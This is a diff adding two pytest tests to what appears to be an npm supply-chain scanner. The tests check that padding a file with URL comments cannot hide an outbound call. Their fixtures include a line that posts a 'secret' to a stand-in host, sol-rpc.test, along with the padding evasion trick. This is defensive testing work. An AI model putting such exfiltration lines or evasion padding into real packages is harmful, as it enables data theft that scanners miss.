@@ -10,6 +10,8 @@ from __future__ import annotations
 import pytest
 
 from mirrorgate.npm.capabilities import INSTALL, LOAD, release_capabilities
+from mirrorgate.npm.js.destinations import HOSTS_PER_FILE
+from mirrorgate.npm.js.words import MAX_URLS
 from mirrorgate.npm.jsuses import uses_of
 from mirrorgate.rules.capabilities import can_gain, verdict
 from mirrorgate.rules.destinations import site_of
@@ -180,3 +182,26 @@ def test_the_hosts_compared_are_those_of_code_that_runs() -> None:
     assert [sent.phase for sent in new.sent] == [LOAD]
     [found] = verdict(new, old)
     assert "to sol-rpc.test" in found
+
+
+def test_links_padded_before_a_destination_never_hide_it() -> None:
+    # the attack: past the URLs a file's reading looks at, a destination would go unseen;
+    # past `MAX_URLS` the file is unread instead, which refuses what runs it
+    padding = b"".join(b"// https://link%d.test/\n" % index for index in range(MAX_URLS + 1))
+
+    read = uses_of(padding + b"axios.post('https://sol-rpc.test/queue', secret);\n")
+
+    assert read.unread is not None
+    assert "URLs" in read.unread
+
+
+def test_a_bundle_full_of_links_is_read_whole_below_the_bound() -> None:
+    # control: a bundle with thousands of links (an SDK's endpoints, its docs) is read as
+    # any other: each host kept up to `HOSTS_PER_FILE`, the destination after them found
+    padding = b"".join(b"// https://link%d.test/\n" % index for index in range(5_000))
+
+    read = uses_of(padding + b"axios.post('https://sol-rpc.test/queue', secret);\n")
+
+    assert read.unread is None
+    assert [destination.host for destination in read.destinations] == ["sol-rpc.test"]
+    assert len(read.hosts) == HOSTS_PER_FILE
